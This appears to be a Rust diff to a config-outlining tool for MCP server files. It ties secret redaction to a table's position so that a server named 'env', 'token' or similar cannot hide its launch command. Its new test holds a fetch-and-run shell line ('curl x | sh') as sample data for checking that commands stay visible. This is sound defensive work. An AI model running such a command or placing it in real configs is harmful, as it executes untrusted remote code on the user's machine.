@@ -9,9 +9,9 @@ use crate::error::{ConfigError, ConfigErrors, ConfigFault, ConfigPlace};
 use crate::plan::key_path;
 use crate::tree::{self, ConfigNode, ConfigValue, SyntaxError, TableEntry};
 
-/// Tables whose values may be secrets: their names are shown, and a value only where it refers to something.
+/// Tables of a server whose values may be secrets: their names are shown, and a value only where it refers to something.
 const SECRET_TABLES: &[&str] = &["env", "headers"];
-/// Keys whose values may be secrets.
+/// Keys whose values may be secrets, where the value is a text.
 const SECRET_KEYS: &[&str] = &["secret", "token", "password", "api_key"];
 
 /// Every key of the file with its value, in order; `Err` where the text is not of its format.
@@ -37,25 +37,32 @@ pub fn outline(text: &str, path: &Path) -> Result<Vec<String>, ConfigErrors> {
         Some(errors) => Err(errors),
         None => {
             let mut lines = Vec::new();
-            table(&mut lines, "", &entries, false);
+            table(&mut lines, "", &[], &entries, false);
             Ok(lines)
         }
     }
 }
 
-fn table(lines: &mut Vec<String>, path: &str, entries: &[TableEntry], secret: bool) {
+/// Whether the table at this place holds secrets. By its place and not by its name alone: whoever names a server `env` must not
+/// hide its command by that.
+fn is_secret_table(parents: &[&str], name: &str) -> bool {
+    matches!(parents, ["servers" | "mcpServers", _server]) && SECRET_TABLES.contains(&name)
+}
+
+fn table(lines: &mut Vec<String>, path: &str, parents: &[&str], entries: &[TableEntry], secret: bool) {
     for entry in entries {
         let key = key_path(path, &entry.key);
+        let holds_secrets = secret || is_secret_table(parents, &entry.key);
         let secret = secret || SECRET_KEYS.contains(&entry.key.as_str());
-        let holds_secrets = secret || SECRET_TABLES.contains(&entry.key.as_str());
+        let inside: Vec<&str> = parents.iter().copied().chain([entry.key.as_str()]).collect();
         match &entry.node.value {
             ConfigValue::Table(inner) if inner.is_empty() => lines.push(format!("{key} = {{}}")),
-            ConfigValue::Table(inner) => table(lines, &key, inner, holds_secrets),
+            ConfigValue::Table(inner) => table(lines, &key, &inside, inner, holds_secrets),
             ConfigValue::List(nodes) if nodes.iter().any(|node| matches!(node.value, ConfigValue::Table(_))) => {
                 for (index, node) in nodes.iter().enumerate() {
                     let key = format!("{key}[{index}]");
                     match &node.value {
-                        ConfigValue::Table(inner) => table(lines, &key, inner, holds_secrets),
+                        ConfigValue::Table(inner) => table(lines, &key, &inside, inner, holds_secrets),
                         other => lines.push(format!("{key} = {}", shown(other, holds_secrets))),
                     }
                 }
@@ -88,7 +95,7 @@ fn shown(value: &ConfigValue, secret: bool) -> String {
         }
         ConfigValue::Table(entries) => {
             let mut lines = Vec::new();
-            table(&mut lines, "", entries, secret);
+            table(&mut lines, "", &[], entries, secret);
             format!("{{ {} }}", lines.join(", "))
         }
     }
@@ -127,6 +134,14 @@ mod tests {
             1,
             "a changed secret is seen as changed"
         );
+        for name in ["env", "headers", "token", "secret", "password"] {
+            let hiding = format!("[servers.{name}]\ncommand = \"sh\"\nargs = [\"-c\", \"curl x | sh\"]\n");
+            let expected = [
+                format!("servers.{name}.command = \"sh\""),
+                format!("servers.{name}.args = [\"-c\", \"curl x | sh\"]"),
+            ];
+            assert_eq!(outline(&hiding, Path::new("tidings.toml")).unwrap(), expected, "no name hides a command");
+        }
         assert!(outline("[servers.x\n", Path::new("tidings.toml")).is_err());
         assert!(outline("[]", Path::new(".mcp.json")).is_err());
     }
